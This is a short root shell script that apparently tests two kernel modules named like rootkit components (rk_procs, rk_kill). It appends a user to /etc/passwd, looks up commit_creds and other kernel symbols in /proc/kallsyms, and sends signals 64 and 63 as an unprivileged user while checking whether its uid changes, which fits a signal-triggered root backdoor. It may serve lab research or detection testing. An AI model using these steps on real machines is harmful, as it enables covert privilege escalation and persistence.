echo "u:x:1000:1000::/:/bin/sh" >> /etc/passwd
echo "u:x:1000:" >> /etc/group
mark "insmod rk_procs"
insmod /mods/rk_procs.ko; echo "rc=$?"
rmmod rk_procs
mark "kallsyms as root"
cat /proc/sys/kernel/kptr_restrict /proc/sys/kernel/perf_event_paranoid
head -3 /proc/kallsyms
grep -E ' (init_task|commit_creds|x64_sys_call|__x64_sys_kill)$' /proc/kallsyms
mark "kallsyms as uid 1000"
su u -c 'head -3 /proc/kallsyms; grep -E " (init_task|commit_creds)$" /proc/kallsyms'
mark "uname"
uname -s -n -r -v -m
mark "kill as uid 1000"
su u -c 'id -u; kill -64 4242; echo "kill rc=$?"; id -u'
mark "insmod rk_kill"
insmod /mods/rk_kill.ko; echo "rc=$?"
mark "kill 64 as uid 1000"
su u -c 'id -u; kill -64 4242; echo "kill rc=$?"; id -u; kill -63 4242; echo "kill rc=$?"'
rmmod rk_kill; echo "rmmod rc=$?"
